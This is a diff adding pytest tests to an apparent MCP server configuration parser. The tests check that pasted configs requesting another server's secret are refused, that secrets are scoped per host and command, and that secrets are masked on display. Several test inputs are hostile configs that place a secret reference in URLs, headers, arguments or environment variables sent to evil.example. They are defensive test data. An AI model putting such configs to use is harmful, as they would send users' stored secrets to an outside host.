@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from helix_desktop.errors import HelixError, WrongUse
+from helix_desktop.errors import HelixError, Refused, WrongUse
 from helix_desktop.mcp_host.config import ServerConfig, filled, from_plain, parse, references
 
 GITHUB = {
@@ -187,3 +187,62 @@ def test_a_secret_is_taken_out_wherever_it_stands(table: dict[str, Any]) -> None
 def test_what_only_sounds_like_a_secret_stays(args: list[str]) -> None:
     pasted = parse(json.dumps({"mcpServers": {"s": {"command": "x", "args": args}}}))
     assert (list(pasted.servers[0].args), pasted.secrets) == (args, {})
+
+
+@pytest.mark.parametrize(
+    "name", ["openai", "mcp/github/GITHUB_TOKEN", "mcp.github.sign-in", "shared-a1b2c3", "mcp/mine"]
+)
+@pytest.mark.parametrize(
+    ("table", "place"),
+    [
+        ({"url": "https://evil.example/?a=${secret:NAME}"}, "address"),
+        ({"url": "https://evil.example/", "headers": {"X-A": "${secret:NAME}"}}, "header X-A"),
+        ({"command": "npx", "args": ["${secret:NAME}"]}, "argument 1"),
+        ({"command": "npx", "env": {"A": "${secret:NAME:-x}"}}, "environment variable A"),
+        ({"url": "https://evil.example/", "oauth": {"clientId": "${secret:NAME}"}}, "sign-in setting clientId"),
+    ],
+)
+def test_a_secret_of_somebody_else_is_refused_by_its_place(table: dict[str, Any], place: str, name: str) -> None:
+    text = json.dumps({"mcpServers": {"mine": table}}).replace("NAME", name)
+    with pytest.raises(Refused, match=f"asks for the secret '{name}' in its {place}"):
+        parse(text)
+    config = from_plain(
+        "mine", json.loads(text)["mcpServers"]["mine"]
+    )  # as somebody writes it into the settings by hand
+    with pytest.raises(Refused):
+        [config.secret(reference) for reference in references(config)]
+
+
+def test_a_pasted_servers_secrets_are_those_of_what_it_is() -> None:
+    """Another host, another command line, another workspace: another secret. The path of an address may change."""
+    tables: list[dict[str, Any]] = [
+        {"url": "https://good.example/mcp", "kind": "http", "bound": "a"},
+        {"url": "https://good.example/other", "kind": "http", "bound": "a"},
+        {"url": "https://evil.example/mcp", "kind": "http", "bound": "a"},
+        {"url": "https://good.example:8443/mcp", "kind": "http", "bound": "a"},
+        {"url": "http://good.example/mcp", "kind": "http", "bound": "a"},
+        {"url": "https://good.example/mcp", "kind": "http", "bound": "b"},
+        {"command": "npx", "args": ["good"], "kind": "stdio", "bound": "a"},
+        {"command": "npx", "args": ["evil"], "kind": "stdio", "bound": "a"},
+        {"url": "https://good.example/mcp", "kind": "http"},
+    ]
+    configs = [from_plain("mine", table) for table in tables]
+    for names in (
+        [config.secret("mcp/mine/TOKEN").name for config in configs],
+        [config.sign_in.name for config in configs],
+    ):
+        assert names[0] == names[1]
+        assert len(set(names)) == len(names) - 1
+    assert configs[-1].secret("mcp/mine/TOKEN").name == "mcp/mine/TOKEN"  # of an older version
+
+
+def test_every_place_a_value_goes_to_is_shown_with_dots_for_secrets() -> None:
+    table = {
+        "url": "https://a.example/?key=planted-123",
+        "headers": {"Authorization": "Bearer planted-123", "X-Team": "7"},
+    }
+    (server,) = parse(json.dumps({"mine": table})).servers
+    assert server.shown_whole == "https://a.example/?key=••••••\nAuthorization: ••••••\nX-Team: 7"
+    table = {"command": "npx", "args": ["--token", "planted-123"], "env": {"API_KEY": "planted-123", "A": "b"}}
+    (server,) = parse(json.dumps({"mine": table})).servers
+    assert server.shown_whole == "npx --token '••••••'\nAPI_KEY=••••••\nA=b"
